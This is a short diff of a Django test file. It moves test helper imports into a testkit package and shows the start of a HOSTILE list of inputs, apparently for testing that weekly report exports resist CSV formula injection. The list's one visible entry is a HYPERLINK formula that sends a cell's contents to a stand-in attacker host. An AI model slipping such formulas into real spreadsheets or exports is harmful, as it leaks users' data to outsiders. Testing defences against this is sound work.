@@ -9,9 +9,9 @@ import io
 import pytest
 from django.core.management import call_command
 
-from apps.queues.tests.factories import quota, set_policy
 from apps.reports.models import WeeklyReport
-from conftest import api_as
+from testkit.clients import api_as
+from testkit.factories import quota, set_policy
 
 HOSTILE = [
     '=HYPERLINK("http://evil.example/?"&A1)',
